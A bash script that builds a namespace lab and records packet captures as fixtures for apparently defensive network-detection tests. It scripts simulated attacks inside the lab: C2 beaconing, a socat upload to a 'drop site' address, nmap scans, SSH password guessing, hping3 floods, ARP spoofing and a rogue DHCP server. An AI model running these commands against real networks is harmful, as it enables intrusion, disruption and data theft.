#!/usr/bin/env bash
# Record the detection scenarios: one small capture per behaviour, from real
# tools talking between lab namespaces, into test/fixtures/scenarios/.
#
# Hosts (10.66.0.0/16 is the LAN, one bridge br0 in tl-scn-core; the
# "internet" is tl-scn-ext behind the router):
#   10.66.0.1   router, legitimate DHCP server (dnsmasq)
#   10.66.0.21  ws1   the beaconing / uploading workstation
#   10.66.0.22  ws2   a second workstation
#   10.66.0.23  ws3   the attacker (scans, guesses, floods, fans out, spoofs)
#   10.66.1.10  srv   sshd (22), nginx (80)
#   10.66.1.11-13 srv2..srv4  listeners on 445 and 3389 (socat)
#   10.66.1.53  dns   dnsmasq
#   198.18.0.9 (C2), 203.0.113.7 (drop site), 198.51.100.80 (web),
#   198.18.0.123 (update service, allow-listed), 198.18.1.0/24 (answers
#   every address: AnyIP route) live in tl-scn-ext, nginx on 80/443 and a
#   socat sink on 8080.
#
# Captures run on br0 with a 128-byte snap length (flows count bytes from
# TCP sequence numbers, so sizes stay right) and links use MTU 9000 so that
# transfers need few packets. Each capture's timestamps are then rewritten by
# rewrite-pcap-times.ts (see README-scenarios.md): started on a fixed
# business-day morning, or stretched for behaviour that needs hours.
#
# Usage: sudo scripts/lab/scenario-detections.sh [SCENARIO...]
#   scenarios: beacon upload scan bruteforce flood-syn flood-icmp flood-udp
#              lateral rogue long-offhours benign (default: all)
# Debian packages: iproute2 ethtool tcpdump nginx-light dnsmasq-base socat
# nmap curl dnsutils openssl python3 hping3 openssh-server sshpass.

set -euo pipefail

HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
ROOT="$(cd "$HERE/../.." && pwd)"
LAB_PREFIX="tl-scn-"
# shellcheck source=lab-lib.sh
source "$HERE/lab-lib.sh"

OUT_DIR="$ROOT/test/fixtures/scenarios"
CORE_MAC=02:00:0a:42:00:01
SNAP=128
BUSINESS_START=2025-12-02T10:00:00Z
NIGHT_START=2025-12-02T01:00:00Z

lab_require ip ethtool tcpdump nginx dnsmasq socat nmap curl dig openssl python3 hping3 sshd sshpass npx
trap lab_cleanup EXIT
lab_make_tmp

add_host() {
  local name="$1" address="$2" mac="$3"
  lab_add_ns "$name"
  lab_link "$name" eth0 "$mac" core "p-$name" "02:00:0a:42:ff:${mac: -2}"
  lab_exec core ip link set "p-$name" mtu 9000 master br0
  lab_exec "$name" ip link set eth0 mtu 9000
  lab_exec "$name" ip addr add "$address/16" dev eth0
  lab_exec "$name" ip route add default via 10.66.0.1
}

build_lab() {
  lab_add_ns core
  lab_exec core sysctl -qw net.ipv4.ip_forward=1
  lab_exec core ip link add br0 address "$CORE_MAC" type bridge
  lab_exec core ip link set br0 mtu 9000 up
  lab_plain_offloads core br0
  lab_exec core ip addr add 10.66.0.1/16 dev br0

  lab_add_ns ext
  lab_link core wan 02:00:c0:00:02:01 ext eth0 02:00:c0:00:02:02
  lab_exec core ip link set wan mtu 9000
  lab_exec ext ip link set eth0 mtu 9000
  lab_exec core ip addr add 192.0.2.1/24 dev wan
  lab_exec ext ip addr add 192.0.2.2/24 dev eth0
  lab_exec core ip route add default via 192.0.2.2
  lab_exec ext ip route add 10.66.0.0/16 via 192.0.2.1
  local address
  for address in 198.18.0.9 203.0.113.7 198.51.100.80 198.18.0.123; do
    lab_exec ext ip addr add "$address/32" dev lo
  done
  lab_exec ext ip route add local 198.18.1.0/24 dev lo

  add_host ws1 10.66.0.21 02:00:0a:42:00:21
  add_host ws2 10.66.0.22 02:00:0a:42:00:22
  add_host ws3 10.66.0.23 02:00:0a:42:00:23
  add_host srv 10.66.1.10 02:00:0a:42:01:10
  add_host srv2 10.66.1.11 02:00:0a:42:01:11
  add_host srv3 10.66.1.12 02:00:0a:42:01:12
  add_host srv4 10.66.1.13 02:00:0a:42:01:13
  add_host dns 10.66.1.53 02:00:0a:42:01:53
}

write_configs() {
  mkdir -p "$LAB_TMP/www" "$LAB_TMP/nginx-body"
  python3 - "$LAB_TMP/www" <<'PY'
import random, sys
www = sys.argv[1]
rng = random.Random(7)
open(f"{www}/b.txt", "w").write("ok\n")
open(f"{www}/index.html", "w").write("<!doctype html><p>" + "word " * 800 + "</p>\n")
for name, size in (("page1.bin", 40_000), ("page2.bin", 120_000), ("report.bin", 300_000), ("big.bin", 5_000_000), ("slow.bin", 5_000_000)):
    open(f"{www}/{name}", "wb").write(rng.randbytes(size))
PY
  head -c $((8 * 1024 * 1024)) /dev/urandom >"$LAB_TMP/upload.bin"
  openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj /CN=www.example.com \
    -keyout "$LAB_TMP/key.pem" -out "$LAB_TMP/cert.pem" 2>/dev/null
  cat >"$LAB_TMP/nginx.conf" <<NGINX
user root;
worker_processes 1;
pid $LAB_TMP/nginx.pid;
error_log $LAB_TMP/nginx-error.log;
events { worker_connections 256; }
http {
  access_log off;
  client_body_temp_path $LAB_TMP/nginx-body;
  proxy_temp_path $LAB_TMP/nginx-proxy;
  fastcgi_temp_path $LAB_TMP/nginx-fastcgi;
  uwsgi_temp_path $LAB_TMP/nginx-uwsgi;
  scgi_temp_path $LAB_TMP/nginx-scgi;
  ssl_certificate $LAB_TMP/cert.pem;
  ssl_certificate_key $LAB_TMP/key.pem;
  server { listen 80; listen 443 ssl; root $LAB_TMP/www;
           location = /slow.bin { limit_rate 30k; } }
}
NGINX
  sed "s|listen 80; listen 443 ssl;|listen 10.66.1.10:80;|; s|pid $LAB_TMP/nginx.pid|pid $LAB_TMP/nginx-srv.pid|" \
    "$LAB_TMP/nginx.conf" >"$LAB_TMP/nginx-srv.conf"

  mkdir -p /run/sshd
  ssh-keygen -q -t ed25519 -N '' -f "$LAB_TMP/host_key"
  ssh-keygen -q -t ed25519 -N '' -f "$LAB_TMP/admin_key"
  cp "$LAB_TMP/admin_key.pub" "$LAB_TMP/authorized_keys"
  cat >"$LAB_TMP/sshd_config" <<SSHD
ListenAddress 10.66.1.10
HostKey $LAB_TMP/host_key
PidFile $LAB_TMP/sshd.pid
AuthorizedKeysFile $LAB_TMP/authorized_keys
StrictModes no
PermitRootLogin prohibit-password
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
MaxAuthTries 2
MaxStartups 100
LoginGraceTime 20
SSHD
}

start_services() {
  lab_spawn ext nginx nginx -c "$LAB_TMP/nginx.conf" -g 'daemon off;'
  lab_spawn ext sink socat -u TCP-LISTEN:8080,fork,reuseaddr OPEN:/dev/null
  lab_spawn srv nginx-srv nginx -c "$LAB_TMP/nginx-srv.conf" -g 'daemon off;'
  lab_spawn srv sshd /usr/sbin/sshd -D -f "$LAB_TMP/sshd_config" -E "$LAB_TMP/sshd-events.log"
  local host
  for host in srv2 srv3 srv4; do
    lab_spawn "$host" "$host-445" socat TCP-LISTEN:445,fork,reuseaddr /dev/null
    lab_spawn "$host" "$host-3389" socat TCP-LISTEN:3389,fork,reuseaddr /dev/null
  done
  lab_spawn dns dnsmasq dnsmasq --no-daemon --conf-file=/dev/null --no-resolv --no-hosts \
    --listen-address=10.66.1.53 --bind-interfaces --pid-file= \
    --host-record=www.example.com,198.51.100.80 --host-record=updates.example.org,198.18.0.123 \
    --host-record=files.corp.example,10.66.1.10
  sleep 2
}

# Every host speaks once at the start, so none of them is "new" later.
greet_all() {
  local host
  for host in ws1 ws2 ws3 srv srv2 srv3 srv4 dns; do
    lab_exec "$host" ping -c 1 -W 1 10.66.0.1 >/dev/null || true
  done
}

capture_begin() {
  RAW="$LAB_TMP/$1.raw.pcap"
  lab_capture_start core br0 "$RAW" "not ip6" -s "$SNAP"
  greet_all
}

# capture_end NAME STRETCH START
capture_end() {
  lab_capture_stop
  (cd "$ROOT" && npx tsx scripts/lab/rewrite-pcap-times.ts "$RAW" "$OUT_DIR/$1.pcap" --stretch "$2" --start "$3")
  lab_log "$1.pcap: $(stat -c %s "$OUT_DIR/$1.pcap") bytes"
}

jitter_sleep() { # base ± spread, seconds
  python3 -c "import random,time; time.sleep(max(0.05, $1 + random.uniform(-$2, $2)))"
}

scenario_beacon() {
  capture_begin beacon
  lab_spawn ws2 update-check bash -c 'for i in $(seq 1 30); do curl -s -o /dev/null http://198.18.0.123/b.txt; sleep 2; done'
  local i
  for i in $(seq 1 45); do
    lab_exec ws1 curl -s -o /dev/null http://198.18.0.9/b.txt
    jitter_sleep 1.5 0.3
  done
  capture_end beacon 40 "$BUSINESS_START"
}

scenario_upload() {
  capture_begin upload
  lab_exec ws1 curl -s -o /dev/null http://203.0.113.7/report.bin
  sleep 1
  lab_exec ws1 curl -s -o /dev/null http://203.0.113.7/report.bin
  sleep 6
  lab_exec ws1 socat -u "OPEN:$LAB_TMP/upload.bin" TCP:203.0.113.7:8080
  sleep 1
  capture_end upload 1 "$BUSINESS_START"
}

scenario_scan() {
  capture_begin scan
  lab_exec ws3 nmap -sS -Pn -n -p 1-100 --max-rate 400 10.66.1.10 >/dev/null
  lab_exec ws3 nmap -sS -Pn -n -p 445 --max-rate 100 198.18.1.1-30 >/dev/null
  capture_end scan 1 "$BUSINESS_START"
}

scenario_bruteforce() {
  capture_begin bruteforce
  local i
  for i in $(seq 1 34); do
    lab_exec ws3 sshpass -p "guess$i" ssh -n -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
      -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 -o ConnectTimeout=5 \
      nosuchuser@10.66.1.10 true >/dev/null 2>&1 || true
  done
  capture_end bruteforce 1 "$BUSINESS_START"
}

scenario_flood_syn() {
  capture_begin flood-syn
  lab_exec ws3 hping3 -q -S -p 81 -i u2000 -c 1500 10.66.1.10 >/dev/null 2>&1 || true
  capture_end flood-syn 1 "$BUSINESS_START"
}

scenario_flood_icmp() {
  capture_begin flood-icmp
  # The target ignores echo requests, as an overwhelmed host or a filter would.
  lab_exec srv2 sysctl -qw net.ipv4.icmp_echo_ignore_all=1
  lab_exec ws3 hping3 -q --icmp -i u2000 -c 1500 10.66.1.11 >/dev/null 2>&1 || true
  lab_exec srv2 sysctl -qw net.ipv4.icmp_echo_ignore_all=0
  capture_end flood-icmp 1 "$BUSINESS_START"
}

scenario_flood_udp() {
  capture_begin flood-udp
  lab_exec ws3 hping3 -q --udp -p 9999 -i u2000 -c 1500 10.66.1.12 >/dev/null 2>&1 || true
  capture_end flood-udp 1 "$BUSINESS_START"
}

scenario_lateral() {
  capture_begin lateral
  local i host port
  for i in $(seq 1 6); do
    lab_exec ws3 curl -s -o /dev/null http://10.66.1.10/index.html
    jitter_sleep 3 1
  done
  for host in 10.66.1.11 10.66.1.12 10.66.1.13; do
    for port in 445 3389; do
      lab_exec ws3 timeout 2 socat -u /dev/null "TCP:$host:$port" || true
    done
  done
  for i in $(seq 1 4); do
    lab_exec ws3 curl -s -o /dev/null http://10.66.1.10/index.html
    jitter_sleep 2 1
  done
  capture_end lateral 1 "$BUSINESS_START"
}

scenario_rogue() {
  capture_begin rogue
  lab_spawn core dhcp-legit dnsmasq --no-daemon --conf-file=/dev/null --port=0 --interface=br0 --bind-interfaces \
    --dhcp-range=10.66.2.100,10.66.2.150,255.255.0.0,10m --pid-file= --dhcp-leasefile="$LAB_TMP/legit.leases"
  lab_exec ws1 ping -c 3 -i 1 10.66.0.22 >/dev/null || true
  sleep 8
  # ws3 claims the router's address towards ws1.
  lab_exec ws3 python3 "$HERE/scenarios/send-arp-claims.py" eth0 10.66.0.1 02:00:0a:42:00:21 10.66.0.21 5 0.5
  sleep 2
  # A device joins late and requests an address, and ws3 runs a second DHCP server.
  lab_spawn ws3 dhcp-rogue dnsmasq --no-daemon --conf-file=/dev/null --port=0 --interface=eth0 --bind-interfaces \
    --dhcp-range=10.66.3.100,10.66.3.150,255.255.0.0,10m --pid-file= --dhcp-leasefile="$LAB_TMP/rogue.leases"
  sleep 1
  add_host late 10.66.0.77 02:00:0a:42:00:77
  lab_exec late ping -c 2 -i 0.5 10.66.0.1 >/dev/null || true
  lab_exec late nmap -e eth0 --script broadcast-dhcp-discover --script-args broadcast-dhcp-discover.timeout=3 >/dev/null 2>&1 || true
  sleep 2
  capture_end rogue 1 "$BUSINESS_START"
}

scenario_long_offhours() {
  capture_begin long-offhours
  lab_spawn ws1 admin ssh -i "$LAB_TMP/admin_key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
    root@10.66.1.10 'for i in $(seq 1 85); do date; sleep 2; done'
  local admin=$LAB_LAST_PID
  # The server paces the download (nginx limit_rate): a client-side limit would
  # stall the window for tens of seconds, and stretched, split the flow.
  lab_exec ws2 curl -sk -o /dev/null https://198.51.100.80/slow.bin --max-time 175 || true
  wait "$admin" 2>/dev/null || true
  # Stretched 25 times: 170 s read as 71 min, and the 2-s gaps as 50 s, under
  # the 5-minute TCP inactivity timeout that would split the flows.
  capture_end long-offhours 25 "$NIGHT_START"
}

scenario_benign() {
  capture_begin benign
  lab_spawn ws1 updates bash -c 'for i in $(seq 1 25); do curl -s -o /dev/null http://198.18.0.123/b.txt; sleep 2.4; done'
  lab_spawn ws2 admin ssh -i "$LAB_TMP/admin_key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
    root@10.66.1.10 'for i in $(seq 1 5); do uptime; sleep 4; done'
  lab_exec ws2 curl -sk -o /dev/null https://203.0.113.7/big.bin
  local i page
  for i in $(seq 1 14); do
    lab_exec ws1 dig +short +tries=1 +time=2 @10.66.1.53 www.example.com >/dev/null || true
    page=$(python3 -c "import random; print(random.choice(['index.html','page1.bin','page2.bin']))")
    if [ $((i % 2)) -eq 0 ]; then
      lab_exec ws1 curl -sk -o /dev/null "https://198.51.100.80/$page"
    else
      lab_exec ws1 curl -s -o /dev/null "http://198.51.100.80/$page"
    fi
    jitter_sleep 3 2.5
  done
  sleep 3
  capture_end benign 1 "$BUSINESS_START"
}

mkdir -p "$OUT_DIR"
build_lab
write_configs
start_services
SCENARIOS=("$@")
[ ${#SCENARIOS[@]} -gt 0 ] || SCENARIOS=(beacon upload scan bruteforce flood-syn flood-icmp flood-udp lateral rogue long-offhours benign)
for name in "${SCENARIOS[@]}"; do
  lab_log "scenario $name"
  "scenario_${name//-/_}"
done
